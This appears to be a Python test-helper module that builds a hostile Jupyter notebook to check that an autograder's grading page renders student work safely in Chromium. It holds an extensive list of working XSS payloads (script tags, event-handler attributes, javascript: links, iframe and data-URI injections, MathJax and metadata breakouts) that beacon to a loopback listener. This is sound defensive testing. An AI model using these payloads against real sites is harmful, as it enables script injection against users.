"""A hostile notebook's payloads, a listener they would call home to, and a page's checks in Chromium."""

import base64
import contextlib
import http.server
import subprocess
import sys
import threading
from pathlib import Path

MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"  # where nbgrader's templates load it


CHAPTER = "01_bigram_counting"


STUDENT = "mallory"


def _png() -> str:
    """A small red PNG, base64 (as an image output holds it)."""
    import io

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, format="PNG")
    return base64.b64encode(buffer.getvalue()).decode()


PNG = _png()


class Listener:
    """An HTTP server on the loopback that records every path asked for (a payload's beacon)."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, name: str) -> str:
        return f"http://127.0.0.1:{self.port}/hit/{name}"

    def close(self) -> None:
        self.server.shutdown()


def beacon(name: str, port: int) -> str:
    """JavaScript that, if it ever runs, marks the top page, its title and the listener."""
    return (
        f"try{{top.pwnedMarks=(top.pwnedMarks||[]).concat(['{name}'])}}catch(e){{}};"
        f"try{{top.document.title='PWNED_{name}'}}catch(e){{}};"
        f"fetch('http://127.0.0.1:{port}/hit/{name}',{{mode:'no-cors'}})"
    )


def markdown_payloads(port: int) -> dict[str, str]:
    """name -> a markdown cell's source that runs `beacon(name)` if rendered unsafely."""
    b = lambda name: beacon(name, port)  # noqa: E731
    hit = lambda name: f"http://127.0.0.1:{port}/hit/{name}"  # noqa: E731

    def data_html(name: str) -> str:
        page = f"<script>{b(name)}</script>".encode()
        return "data:text/html;base64," + base64.b64encode(page).decode()

    return {
        # block-level HTML, so that markdown leaves the script's text alone
        "md_script": f"<script>\n{b('md_script')}\n</script>",
        "md_img_onerror": f'<img src=x onerror="{b("md_img_onerror")}">',
        "md_svg_onload": f'<svg onload="{b("md_svg_onload")}"><circle r="4"/></svg>',
        "md_svg_script": f"<svg>\n<script>{b('md_svg_script')}</script>\n</svg>",
        "md_onmouseover": f'<div onmouseover="{b("md_onmouseover")}">HOVER md_onmouseover</div>',
        "md_a_onmouseover": f'<a onmouseover="{b("md_a_onmouseover")}">HOVER a</a>',
        "md_details_ontoggle": f'<details open ontoggle="{b("md_details_ontoggle")}">x</details>',
        "md_input_onfocus": f'<input autofocus onfocus="{b("md_input_onfocus")}">',
        "md_body_onload": f'<body onload="{b("md_body_onload")}">',
        "md_video_onerror": f'<video><source onerror="{b("md_video_onerror")}"></video>',
        "md_javascript_link": f"[CLICK md link](javascript:{b('md_javascript_link')})",
        "md_javascript_a": f'<a href="javascript:{b("md_javascript_a")}">CLICK a</a>',
        "md_iframe_srcdoc": f'<iframe srcdoc="<script>{b("md_iframe_srcdoc")}</script>"></iframe>',
        "md_iframe_src": f'<iframe src="{data_html("md_iframe_src")}"></iframe>',
        "md_object": f'<object data="{data_html("md_object")}"></object>',
        "md_embed": f'<embed src="{data_html("md_embed")}">',
        "md_meta_refresh": f'<meta http-equiv="refresh" content="0;url={hit("md_meta_refresh")}">',
        "md_base": f'<base href="{hit("md_base")}/"><img src="pixel.png">',
        "md_form": f'<form action="{hit("md_form")}"><button>CLICK form</button></form>',
        "md_style": f"<style>body {{ background: url({hit('md_style')}) }}</style>",
        "md_img_remote": f'<img src="{hit("md_img_remote")}">',
        "mj_href": f"Math $\\href{{javascript:{b('mj_href')}}}{{CLICK mj}}$",
        "mj_unicode": "Math $\\unicode[some; onload=alert(1)]{x263A}$ and "
        f"$\\unicode{{<img src=x onerror={b('mj_unicode')}>}}$",
        "mj_class": f'Math $\\class{{x" onmouseover="{b("mj_class")}}}{{HOVER mj}}$',
        "mj_require": "Math $\\require{https://127.0.0.1/evil.js}x$",
    }


def output_payloads(port: int) -> dict[str, tuple[dict, dict]]:
    """name -> (data, metadata) of an output a student's code displays."""
    b = lambda name: beacon(name, port)  # noqa: E731
    return {
        "out_html": ({"text/html": f'<img src=x onerror="{b("out_html")}">'}, {}),
        "out_html_script": ({"text/html": f"<script>{b('out_html_script')}</script>"}, {}),
        "out_svg": (
            {
                "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{b("out_svg")}">'
                f"<script>{b('out_svg')}</script></svg>"
            },
            {},
        ),
        "out_javascript": ({"application/javascript": b("out_javascript")}, {}),
        "out_width": ({"image/png": PNG}, {"image/png": {"width": f"1 onload={b('out_width')}"}}),
        "out_height": ({"image/png": PNG}, {"height": f"1 onload={b('out_height')}"}),
        "out_png_data": ({"image/png": f'x" onerror="{b("out_png_data")}'}, {}),
        "out_markdown": ({"text/markdown": f'<img src=x onerror="{b("out_markdown")}">'}, {}),
        "out_latex": (
            {"text/latex": f"$\\href{{javascript:{b('out_latex')}}}{{CLICK latex}}$"},
            {},
        ),
        "out_widget": (
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"</script><script>{b('out_widget')}</script>",
                    "version_major": 2,
                    "version_minor": 0,
                }
            },
            {},
        ),
        "out_html_isolated": (
            {"text/html": f"<script>{b('out_html_isolated')}</script>"},
            {"text/html": {"isolated": True}},
        ),
    }


HONEST_ANSWER = (
    "HONEST written answer: the gradient of the loss is $\\frac{\\partial L}{\\partial z} = p - y$."
)


HONEST_TABLE = (
    "<table><tr><th>n</th><th>HONEST-TABLE</th></tr><tr><td>1</td><td>0.5</td></tr></table>"
)


HONEST_LONG_LINE = 'print("HONEST-LONG-LINE " + "word " * 300)'  # one line, ten screens wide


HONEST_PLOT = "import matplotlib.pyplot as plt\nplt.figure(figsize=(2, 2))\nplt.plot([0, 1], [1, 0])\nplt.show()"


def markdown_cell(source: str, **extra: object) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **extra}


def code_cell(source: str, outputs: list | None = None) -> dict:
    return {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": outputs or [],
        "execution_count": None,
    }


def payload_cells(port: int) -> list[dict]:
    """The student's own cells: every payload, and honest content."""
    cells = [markdown_cell(HONEST_ANSWER), code_cell(HONEST_PLOT), code_cell(HONEST_LONG_LINE)]
    cells.append(
        code_cell(f"from IPython.display import HTML, display\ndisplay(HTML({HONEST_TABLE!r}))")
    )
    cells += [markdown_cell(source) for source in markdown_payloads(port).values()]
    for name, (data, metadata) in output_payloads(port).items():
        output = {"output_type": "display_data", "data": data, "metadata": metadata}
        source = f"from IPython.display import display\ndisplay({data!r}, raw=True, metadata={metadata!r})  # {name}"
        cells.append(code_cell(source, [output]))  # as the student's own run left it
    evil = beacon("attachment", port)
    cells.append(
        markdown_cell(
            "![a](attachment:pic.png) ![b](attachment:evil)",
            attachments={
                "pic.png": {
                    f'image/png" onerror="{evil}': PNG,
                    "text/html": f"<script>{evil}</script>",
                },
                "evil": {
                    "image/svg+xml": base64.b64encode(f'<svg onload="{evil}"/>'.encode()).decode()
                },
                f'x" onerror="{evil}': {"image/png": PNG},
            },
        )
    )
    cells.append(
        markdown_cell(
            FORGED,
            metadata={
                "nbgrader": {
                    "grade_id": f'x"><img src=x onerror="{beacon("grade_id", port)}">',
                    "solution": True,
                    "grade": False,
                    "locked": False,
                    "schema_version": 3,
                }
            },
        )
    )
    return cells


FORGED = "a cell with forged nbgrader metadata"


def add_payloads(port: int, leave_out: tuple[str, ...] = ()):
    """A notebook edit adding the payload cells (but those whose source names one of `leave_out`)."""

    def edit(notebook: dict) -> None:
        cells = payload_cells(port)
        notebook["cells"] += [c for c in cells if not any(n in str(c["source"]) for n in leave_out)]
        notebook["metadata"]["widgets"] = {
            "application/vnd.jupyter.widget-state+json": {
                "state": {},
                "version_major": 2,
                "version_minor": 0,
                "x": f"</script><script>{beacon('widget_state', port)}</script>",
            }
        }

    return edit


def course(*args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "autograder.cli.instructor", *args], capture_output=True, text=True
    )
    assert done.returncode == 0, f"{' '.join(args)} failed:\n{done.stdout}\n{done.stderr[-3000:]}"
    return done.stdout


def mathjax_file(path: str) -> Path:
    """A file of jupyter-server-mathjax's MathJax 2.7."""
    import jupyter_server_mathjax

    return Path(jupyter_server_mathjax.__file__).parent / "static" / path


def serve_mathjax(page) -> list[str]:
    """MathJax requests to the CDN answered from the local copy (latest.js: a loader of MathJax.js);
    the list of what was asked for."""
    asked: list[str] = []
    loader = (
        "var s=document.createElement('script');"
        f"s.src='{MATHJAX}2.7.7/MathJax.js?config=TeX-AMS-MML_HTMLorMML-full,Safe';"
        "document.head.appendChild(s);"
    )

    def answer(route) -> None:
        asked.append(route.request.url)
        path = route.request.url.split("?")[0].removeprefix(MATHJAX)
        path = path.split("/", 1)[1] if "/" in path else path
        if path == "latest.js":
            route.fulfill(body=loader, content_type="application/javascript")
        elif mathjax_file(path).is_file():
            route.fulfill(path=mathjax_file(path), content_type="application/javascript")
        else:
            route.fulfill(status=404, body="")

    page.route(f"{MATHJAX}**", answer)
    return asked


def hover(page, area: str) -> None:
    """Let images fail (and, on the control page, MathJax typeset), then hover what a payload could
    hang a handler on."""
    page.wait_for_timeout(1500)
    for element in page.locator(f"{area} :text('HOVER')").all():
        with contextlib.suppress(Exception):  # hidden or detached
            element.hover(timeout=2000)
    page.wait_for_timeout(500)


def click(page, area: str) -> list[str]:
    """Click every link and button of the notebook; the documents a click opened."""
    url, opened = page.url, []
    # a visible link to the web is the student's to show (following it runs nothing of theirs)
    # and the formgrader's own controls (scores, comments) are not the student's
    content = [f"{area} .text_cell_render", f"{area} .output_wrapper"]
    targets = ", ".join(f"{c} a:not([href^='http']), {c} button" for c in content)
    for index in range(page.locator(targets).count()):
        with contextlib.suppress(Exception):  # not clickable: nothing to provoke
            page.locator(targets).nth(index).click(timeout=2000, no_wait_after=True)
        page.wait_for_timeout(200)
        if page.url.split("#")[0] != url.split("#")[0]:  # a link or form led away
            opened.append(page.url)
            page.goto(url)
    page.wait_for_timeout(1000)
    return opened


def executed(page, listener: Listener, dialogs: list[str]) -> list[str]:
    """Every sign that a payload ran: page marks (every frame), titles, dialogs, listener hits."""
    signs = []
    for frame in page.frames:
        try:
            signs += [f"mark {m}" for m in frame.evaluate("() => window.pwnedMarks || []")]
            title = frame.evaluate("() => document.title")
        except Exception:  # a frame of another origin: its beacon goes to the listener
            continue
        if "PWNED" in title:
            signs.append(f"title {title}")
    signs += [f"dialog {d}" for d in dialogs]
    signs += [f"listener {hit}" for hit in listener.hits]
    return sorted(set(signs))


def honest_content_shows(page, area: str) -> None:
    """The written answer (its formula typeset), the plot and the table are on the page."""
    answer = page.locator(f"{area} .text_cell_render").filter(has_text="HONEST written answer")
    answer.first.wait_for()
    page.wait_for_function(
        "(el) => el.querySelector('math, .MathJax, .MathJax_CHTML, mjx-container') !== null",
        arg=answer.first.element_handle(),
        timeout=30_000,
    )
    plots = page.locator(f"{area} .output_png img")
    assert plots.count() >= 1, "no plot on the page"
    widths = plots.evaluate_all("images => images.map(i => i.naturalWidth)")
    assert max(widths) > 50, f"the plot did not load: {widths}"
    assert page.locator(f"{area} table th", has_text="HONEST-TABLE").count() == 1, "no table"


def dangerous_elements(page, area: str) -> list[str]:
    """Elements that carry or load active content, in the notebook part of the page."""
    return page.evaluate(
        """(area) => {
            const root = document.querySelector(area);
            const found = [];
            for (const el of root.querySelectorAll('script, iframe, object, embed, form, base, meta, style, svg, video')) {
                // MathJax keeps each formula's source in a script of type math/tex or, for the
                // MathML the server wrote, math/mml (never run)
                if (!(el.tagName === 'SCRIPT' && /^math[/](tex|mml)/.test(el.type))) found.push(el.tagName.toLowerCase());
            }
            for (const el of root.querySelectorAll('*')) {
                for (const a of el.attributes) {
                    if (a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value)) found.push(el.tagName + ' ' + a.name);
                }
            }
            return found;
        }""",
        area,
    )


def check_page(page, listener: Listener, dialogs: list[str], area: str) -> None:
    hover(page, area)
    signs = executed(page, listener, dialogs)
    opened = click(page, area)
    signs += executed(page, listener, dialogs)
    assert not signs, signs
    assert not opened, f"clicks led to {opened}"
    assert not dangerous_elements(page, area), dangerous_elements(page, area)
    honest_content_shows(page, area)


def watch(page) -> list[str]:
    dialogs: list[str] = []

    def dismiss(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    return dialogs
